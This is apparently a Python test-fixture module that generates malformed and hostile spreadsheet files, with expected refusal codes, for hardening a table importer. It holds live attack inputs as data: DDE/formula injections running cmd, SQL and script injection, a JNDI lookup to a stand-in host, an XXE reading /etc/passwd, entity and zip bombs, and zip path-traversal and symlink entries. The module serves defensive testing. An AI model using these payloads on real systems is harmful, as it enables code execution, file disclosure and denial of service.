"""Fifty hostile and broken files, each with what must happen: a refusal code, or the rows that come in.

`HOSTILE` maps a name to a function that writes the file into a folder and returns (path, expected code);
code "" means: it is read, and nothing worse happens.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl

Maker = Callable[[Path], tuple[Path, str]]
HOSTILE: dict[str, Maker] = {}

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HEAD = ("序号", "资产名称", "坐落", "原值（万元）")
INJECTIONS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid","点我")',
    '=WEBSERVICE("http://example.invalid")',
    "=IMPORTXML(A1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "'; DROP TABLE asset; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}",
    "%s%s%n",
)
"""Texts that other programs have executed; here they are names like any other."""


def hostile(make: Maker) -> Maker:
    HOSTILE[make.__name__] = make
    return make


def raw(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def good(folder: Path, name: str = "好.xlsx", rows: int = 3) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(list(HEAD))
    for i in range(1, rows + 1):
        ws.append([i, f"{i}号", f"甲路{i}号", i])
    path = folder / name
    wb.save(path)
    return path


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def pack(path: Path, entries: dict[str, bytes], kind: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", kind) as z:
        for n, b in entries.items():
            z.writestr(n, b)
    return path


def cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def head_row() -> str:
    return '<row r="1">' + "".join(cell(f"{c}1", t) for c, t in zip("ABCD", HEAD, strict=True)) + "</row>"


def data_row(n: int) -> str:
    return f'<row r="{n}"><c r="A{n}"><v>{n}</v></c>{cell(f"B{n}", "大礼堂")}{cell(f"C{n}", "甲路1号")}<c r="D{n}"><v>1</v></c></row>'


def with_sheet(folder: Path, name: str, xml: str | bytes, **others: bytes) -> Path:
    """A good workbook whose one sheet is this XML."""
    entries = parts(good(folder))
    entries["xl/worksheets/sheet1.xml"] = xml if isinstance(xml, bytes) else xml.encode()
    entries |= {k.replace("__", "/"): v for k, v in others.items()}
    return pack(folder / name, entries)


def sheet(body: str, tail: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS}><sheetData>{body}</sheetData>{tail}</worksheet>'


# --- no table at all -----------------------------------------------------------------------------


def _foreign(name: str, data: bytes, code: str = "not-a-table") -> None:
    def make(folder: Path) -> tuple[Path, str]:
        return raw(folder, name, data), code

    HOSTILE[f"foreign_{name}"] = make


_foreign("空.xlsx", b"", "empty")
_foreign("报告.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" * 50)
_foreign("程序.xlsx", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(500))
_foreign("程序.csv", b"\x7fELF\x02\x01\x01" + bytes(500))
_foreign("照片.xls", b"\x89PNG\r\n\x1a\n" + bytes(500))
_foreign("照片.jpg", b"\xff\xd8\xff\xe0" + bytes(500))
_foreign("包.rar", b"Rar!\x1a\x07\x01\x00" + bytes(100))
_foreign("包.7z", b"7z\xbc\xaf\x27\x1c" + bytes(100))
_foreign("库.db", b"SQLite format 3\0" + bytes(500))
_foreign("文.rtf", b"{\\rtf1\\ansi hello}")
_foreign("乱.csv", bytes(range(256)) * 40)
_foreign("~$台账.xlsx", b"\x05user" + bytes(160), "lock-file")
_foreign("散文.txt", "关于盘活闲置资产的通知\n各单位：\n请于月底前报送。\n".encode(), "no-table")
_foreign("网页.html", b"<html><body><p>no table here</p></body></html>")
_foreign("数据.xml", b'<?xml version="1.0"?><data><a>1</a></data>')
_foreign("旧头.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "damaged")
_foreign("乱链.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2000, "damaged")
_foreign("半个.zip", b"PK\x03\x04" + bytes(200), "damaged")
_foreign("空包.xlsx", b"PK\x05\x06" + bytes(18), "damaged")


@hostile
def word_document(folder: Path) -> tuple[Path, str]:
    rels = '<Relationships xmlns="r"><Relationship Id="1" Type="x/officeDocument" Target="word/document.xml"/></Relationships>'
    return pack(
        folder / "文件.xlsx",
        {"[Content_Types].xml": b"<Types/>", "_rels/.rels": rels.encode(), "word/document.xml": b"<w/>"},
    ), "not-a-table"


@hostile
def zip_of_workbooks(folder: Path) -> tuple[Path, str]:
    return pack(folder / "全部.zip", {"a.xlsx": b"x", "b.xls": b"y"}), "not-a-table"


@hostile
def password(folder: Path) -> tuple[Path, str]:
    """An OLE2 container with EncryptedPackage, as Excel writes protected workbooks."""
    return raw(
        folder, "加密.xlsx", ole({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"y" * 5000})
    ), "password"


@hostile
def password_xls(folder: Path) -> tuple[Path, str]:
    """BIFF8 with a FILEPASS record."""
    stream = struct.pack("<HHHH", 0x809, 16, 0x600, 5) + bytes(12) + struct.pack("<HH", 0x2F, 6) + bytes(6)
    return raw(folder, "加密.xls", ole({"Workbook": stream + bytes(5000)})), "password"


@hostile
def password_zip(folder: Path) -> tuple[Path, str]:
    path = good(folder, "a.xlsx")
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return raw(folder, "加密2.xlsx", bytes(data)), "password"


@hostile
def word_in_ole(folder: Path) -> tuple[Path, str]:
    return raw(folder, "文件.xls", ole({"WordDocument": b"x" * 5000})), "not-a-table"


def ole(streams: dict[str, bytes]) -> bytes:
    """A small OLE2 container with streams of 4096 bytes and more."""
    sectors: list[bytes] = []
    fat: list[int] = []

    def put(data: bytes) -> int:
        first = len(sectors)
        count = max(1, -(-len(data) // 512))
        for i in range(count):
            sectors.append(data[i * 512 : (i + 1) * 512].ljust(512, b"\0"))
            fat.append(first + i + 1 if i < count - 1 else 0xFFFFFFFE)
        return first

    entries = [("Root Entry", 5, 0xFFFFFFFE, 0)]
    entries += [(n, 2, put(d), len(d)) for n, d in streams.items()]
    directory = b""
    for name, kind, start, length in entries:
        text = name.encode("utf-16-le") + b"\0\0"
        directory += (
            text.ljust(64, b"\0")
            + struct.pack("<HBB", len(text), kind, 1)
            + struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, 1 if kind == 5 else 0xFFFFFFFF)
        )
        directory += bytes(36) + struct.pack("<IIQ", 0, start, 0)[4:8] + struct.pack("<Q", length)
    fixed = b""
    for i in range(len(entries)):
        fixed += directory[i * 128 : (i + 1) * 128].ljust(128, b"\0")
    where = put(fixed)
    fat_at = len(sectors)
    fat.append(0xFFFFFFFD)
    sectors.append(struct.pack("<128I", *(fat + [0xFFFFFFFF] * (128 - len(fat)))))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6)
        + bytes(6)
    )
    header += struct.pack("<IIIIIIIII", 0, 1, where, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<109I", fat_at, *[0xFFFFFFFF] * 108)
    return header + b"".join(sectors)


# --- zips ------------------------------------------------------------------------------------------


@hostile
def truncated(folder: Path) -> tuple[Path, str]:
    data = good(folder, rows=400).read_bytes()
    return raw(folder, "截断.xlsx", data[: len(data) // 2]), "damaged"


@hostile
def flipped_bytes(folder: Path) -> tuple[Path, str]:
    data = bytearray(good(folder, rows=400).read_bytes())
    at = data.find(b"xl/worksheets/sheet1.xml") + 60
    data[at : at + 40] = b"\xff" * 40
    return raw(folder, "坏块.xlsx", bytes(data)), "damaged"


@hostile
def zip_bomb(folder: Path) -> tuple[Path, str]:
    entries = parts(good(folder))
    entries["xl/worksheets/sheet1.xml"] = sheet("<row/>" * 1).encode()[:-30] + b" " * (120 * 2**20)
    return pack(folder / "炸弹.xlsx", entries), "unsafe-zip"


@hostile
def zip_with_huge_entry(folder: Path) -> tuple[Path, str]:
    path = pack(folder / "大.xlsx", {**parts(good(folder)), "xl/media/x.bin": b"0"})
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 0x7FFFFFFF)
    return raw(folder, "谎报.xlsx", bytes(data)), "too-large"


@hostile
def zip_that_lies_about_size(folder: Path) -> tuple[Path, str]:
    """The directory claims a small sheet; the stream gives much more."""
    entries = parts(good(folder))
    entries["xl/worksheets/sheet1.xml"] = sheet("".join(data_row(i) for i in range(2, 4000))).encode()
    path = pack(folder / "小.xlsx", entries)
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + length] == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", data, at + 24, 100)
        at = data.find(b"PK\x01\x02", at + 4)
    return raw(folder, "谎报小.xlsx", bytes(data)), "damaged"


@hostile
def many_entries(folder: Path) -> tuple[Path, str]:
    return pack(
        folder / "多.xlsx", {**parts(good(folder)), **{f"x/{i}": b"" for i in range(600)}}
    ), "too-large"


@hostile
def two_thousand_sheets(folder: Path) -> tuple[Path, str]:
    entries = parts(good(folder))
    one = entries["xl/worksheets/sheet1.xml"]
    entries |= {f"xl/worksheets/sheet{i}.xml": one for i in range(2, 2001)}
    return pack(folder / "两千表.xlsx", entries), "too-large"


@hostile
def four_hundred_sheets(folder: Path) -> tuple[Path, str]:
    entries = parts(good(folder))
    one = entries["xl/worksheets/sheet1.xml"]
    entries |= {f"xl/worksheets/sheet{i}.xml": one for i in range(2, 401)}
    rels = "".join(
        f'<Relationship Id="r{i}" Type="x/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, 401)
    )
    entries["xl/_rels/workbook.xml.rels"] = f'<Relationships xmlns="r">{rels}</Relationships>'.encode()
    names = "".join(f'<sheet name="表{i}" sheetId="{i}" r:id="r{i}"/>' for i in range(1, 401))
    entries["xl/workbook.xml"] = f'<workbook {_NS} xmlns:r="r"><sheets>{names}</sheets></workbook>'.encode()
    return pack(folder / "四百表.xlsx", entries), ""


def _named(title: str, entry: str) -> None:
    def make(folder: Path) -> tuple[Path, str]:
        return pack(folder / "名.xlsx", {**parts(good(folder)), entry: b"x"}), "unsafe-zip"

    HOSTILE[f"zip_name_{title}"] = make


_named("up", "../x.txt")
_named("deep_up", "xl/../../x.txt")
_named("absolute", "/etc/x")
_named("drive", "C:/x")
_named("device", "xl/CON.xml")
_named("case_twice", "XL/WORKBOOK.XML")
_named("backslash", "..\\x")


@hostile
def zip_with_link(folder: Path) -> tuple[Path, str]:
    path = folder / "链.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        for n, b in parts(good(folder)).items():
            z.writestr(n, b)
        info = zipfile.ZipInfo("xl/link")
        info.external_attr = 0o120777 << 16
        z.writestr(info, "/etc/passwd")
    return path, "unsafe-zip"


# --- XML ---------------------------------------------------------------------------------------------


@hostile
def entity_bomb(folder: Path) -> tuple[Path, str]:
    levels = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "哈">{levels}]>'
        + sheet(cell("A1", "&a11;")).split("?>")[1]
    )
    return with_sheet(folder, "实体.xlsx", xml), "xml-entities"


@hostile
def external_entity(folder: Path) -> tuple[Path, str]:
    xml = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        + sheet(cell("A1", "&a;")).split("?>")[1]
    )
    return with_sheet(folder, "外部实体.xlsx", xml), "xml-entities"


def with_strings(folder: Path, name: str, strings: bytes, body: str) -> Path:
    """A workbook with a table of shared strings, which openpyxl here does not write."""
    entries = parts(good(folder))
    rels = entries["xl/_rels/workbook.xml.rels"].decode()
    more = '<Relationship Id="rId99" Type="x/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    entries["xl/_rels/workbook.xml.rels"] = rels.replace("</Relationships>", more).encode()
    entries["xl/sharedStrings.xml"] = strings
    entries["xl/worksheets/sheet1.xml"] = sheet(body).encode()
    return pack(folder / name, entries)


@hostile
def entity_in_shared_strings(folder: Path) -> tuple[Path, str]:
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><sst><si><t>&a;</t></si></sst>'
    return with_strings(folder, "串.xlsx", xml, head_row()), "xml-entities"


@hostile
def not_well_formed(folder: Path) -> tuple[Path, str]:
    return with_sheet(folder, "断.xlsx", sheet(head_row() + data_row(2))[:-40]), "damaged"


@hostile
def deep_nesting(folder: Path) -> tuple[Path, str]:
    return with_sheet(
        folder, "深.xlsx", sheet("<a>" * 200_000 + "</a>" * 200_000 + head_row() + data_row(2))
    ), ""


@hostile
def far_cell(folder: Path) -> tuple[Path, str]:
    body = head_row() + data_row(2) + f'<row r="1048576">{cell("XFD1048576", "远")}</row>'
    return with_sheet(folder, "远.xlsx", sheet(body)), ""


@hostile
def a_million_blank_rows(folder: Path) -> tuple[Path, str]:
    body = head_row() + data_row(2) + "".join(f'<row r="{i}" s="1"/>' for i in range(3, 1_048_577))
    return with_sheet(folder, "百万空行.xlsx", sheet(body)), ""


@hostile
def blank_cells_everywhere(folder: Path) -> tuple[Path, str]:
    line = "".join(f'<c r="{c}{{n}}" s="1"/>' for c in "ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    body = (
        head_row()
        + data_row(2)
        + "".join(f'<row r="{i}">{line.replace("{n}", str(i))}</row>' for i in range(3, 60_000))
    )
    return with_sheet(folder, "空格.xlsx", sheet(body)), ""


@hostile
def beyond_the_sheet(folder: Path) -> tuple[Path, str]:
    body = (
        head_row()
        + data_row(2)
        + f'<row r="9999999">{cell("ZZZ9999999", "外")}</row><row r="0">{cell("A0", "零")}</row>'
    )
    return with_sheet(folder, "越界.xlsx", sheet(body)), ""


@hostile
def false_counts_in_shared_strings(folder: Path) -> tuple[Path, str]:
    xml = f'<sst {_NS} count="4000000000" uniqueCount="4000000000"><si><t>大礼堂</t></si></sst>'
    row = f'<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="s"><v>0</v></c>{cell("C2", "甲路1号")}<c r="D2"><v>1</v></c></row>'
    return with_strings(folder, "假数.xlsx", xml.encode(), head_row() + row), ""


@hostile
def shared_string_missing(folder: Path) -> tuple[Path, str]:
    body = head_row() + '<row r="2"><c r="A2" t="s"><v>99999</v></c></row>'
    return with_strings(folder, "缺串.xlsx", b"<sst><si><t>x</t></si></sst>", body), "damaged"


@hostile
def rows_out_of_order(folder: Path) -> tuple[Path, str]:
    return with_sheet(folder, "乱序.xlsx", sheet(data_row(5) + data_row(3) + head_row() + data_row(2))), ""


@hostile
def cells_out_of_order(folder: Path) -> tuple[Path, str]:
    row = f'<row r="2"><c r="D2"><v>1</v></c>{cell("C2", "甲路1号")}{cell("B2", "大礼堂")}<c r="A2"><v>1</v></c></row>'
    return with_sheet(folder, "乱格.xlsx", sheet(head_row() + row)), ""


@hostile
def control_characters(folder: Path) -> tuple[Path, str]:
    row = f'<row r="2">{cell("B2", "大_x0000__x000B_礼_x001F_堂_xD800_")}{cell("C2", "甲路&#9;1号")}</row>'
    return with_sheet(folder, "控制符.xlsx", sheet(head_row() + row)), ""


@hostile
def numbers_that_are_none(folder: Path) -> tuple[Path, str]:
    row = f'<row r="2">{cell("B2", "大礼堂")}{cell("C2", "甲路1号")}<c r="D2"><v>1e999</v></c></row>'
    row += f'<row r="3">{cell("B3", "小礼堂")}{cell("C3", "甲路2号")}<c r="D3"><v>NaN</v></c></row>'
    row += f'<row r="4">{cell("B4", "旧礼堂")}{cell("C4", "甲路3号")}<c r="D4"><v>1.7976931348623157E+308</v></c></row>'
    return with_sheet(folder, "怪数.xlsx", sheet(head_row() + row)), ""


@hostile
def overlapping_merges(folder: Path) -> tuple[Path, str]:
    merges = "".join(f'<mergeCell ref="A{i}:XFD{i + 900000}"/>' for i in range(3, 40))
    tail = f'<mergeCells>{merges}<mergeCell ref="B2:"/><mergeCell ref="x"/></mergeCells>'
    return with_sheet(folder, "叠.xlsx", sheet(head_row() + data_row(2), tail)), ""


@hostile
def huge_text(folder: Path) -> tuple[Path, str]:
    row = f'<row r="2">{cell("B2", "长" * 3_000_000)}{cell("C2", "甲路1号")}</row>'
    return with_sheet(folder, "长.xlsx", sheet(head_row() + row)), ""


@hostile
def six_million_cells(folder: Path) -> tuple[Path, str]:
    line = "".join("<c><v>1</v></c>" for _ in range(100))
    body = "".join(f'<row r="{i}">{line}</row>' for i in range(1, 60_001))
    entries = parts(good(folder))
    entries["xl/worksheets/sheet1.xml"] = sheet(body).encode()
    return pack(folder / "六百万格.xlsx", entries, zipfile.ZIP_STORED), "too-large"


@hostile
def no_sheets(folder: Path) -> tuple[Path, str]:
    entries = parts(good(folder))
    entries["xl/workbook.xml"] = f"<workbook {_NS}><sheets/></workbook>".encode()
    return pack(folder / "无表.xlsx", entries), "damaged"


@hostile
def no_workbook_part(folder: Path) -> tuple[Path, str]:
    entries = parts(good(folder))
    del entries["xl/workbook.xml"]
    return pack(folder / "无书.xlsx", entries), "damaged"


@hostile
def sheet_part_outside(folder: Path) -> tuple[Path, str]:
    entries = parts(good(folder))
    rels = entries["xl/_rels/workbook.xml.rels"].decode()
    entries["xl/_rels/workbook.xml.rels"] = rels.replace(
        "/xl/worksheets/sheet1.xml", "../../../etc/passwd"
    ).encode()
    return pack(folder / "外部件.xlsx", entries), "damaged"


@hostile
def unclosed_quotes(folder: Path) -> tuple[Path, str]:
    text = "序号,资产名称,坐落,原值（万元）\n" + '1,"' + "大礼堂\n" * 20_000
    return raw(folder, "引号.csv", text.encode()), ""


@hostile
def wide_csv(folder: Path) -> tuple[Path, str]:
    text = (
        ",".join(["序号", "资产名称", "坐落", "原值（万元）"])
        + "\n1,大礼堂,甲路1号,1"
        + ",x" * 200_000
        + "\n"
    )
    return raw(folder, "宽.csv", text.encode()), ""


@hostile
def html_of_nested_tables(folder: Path) -> tuple[Path, str]:
    return raw(
        folder, "套.xls", b"<table>" * 5000 + b"<tr><td colspan=99999999 rowspan=99999999>x</td></tr>"
    ), "no-table"


@hostile
def injections(folder: Path) -> tuple[Path, str]:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(list(HEAD))
    for i, text in enumerate(INJECTIONS, 1):
        ws.cell(i + 1, 1, i)
        ws.cell(i + 1, 2, text).data_type = "s"
        ws.cell(i + 1, 3, f"甲路{i}号")
        ws.cell(i + 1, 4, 1)
    path = folder / "注入.xlsx"
    wb.save(path)
    return path, ""


@hostile
def xls_with_cut_records(folder: Path) -> tuple[Path, str]:
    import xlwt

    wb = xlwt.Workbook()
    wb.add_sheet("a").write(0, 0, "x")
    buffer = io.BytesIO()
    wb.save(buffer)
    return raw(folder, "断.xls", buffer.getvalue()[:2200]), "damaged"


_foreign("网页声明.xls", b"<html><table>" + b"<!--" * 500_000 + b"<![CDATA[" * 100_000)


@hostile
def html_of_endless_spans(folder: Path) -> tuple[Path, str]:
    """Each row reserves 16,384 columns for a milliard rows."""
    row = b"<tr><td rowspan=1000000000 colspan=16384>x</td></tr>"
    return raw(folder, "跨行.xls", b"<html><table>" + row * 20_000 + b"</table></html>"), "too-large"


if hasattr(os, "mkfifo"):

    @hostile
    def a_pipe(folder: Path) -> tuple[Path, str]:
        """Whoever opens it waits for a writer."""
        os.mkfifo(folder / "管道.xlsx")
        return folder / "管道.xlsx", "not-a-file"
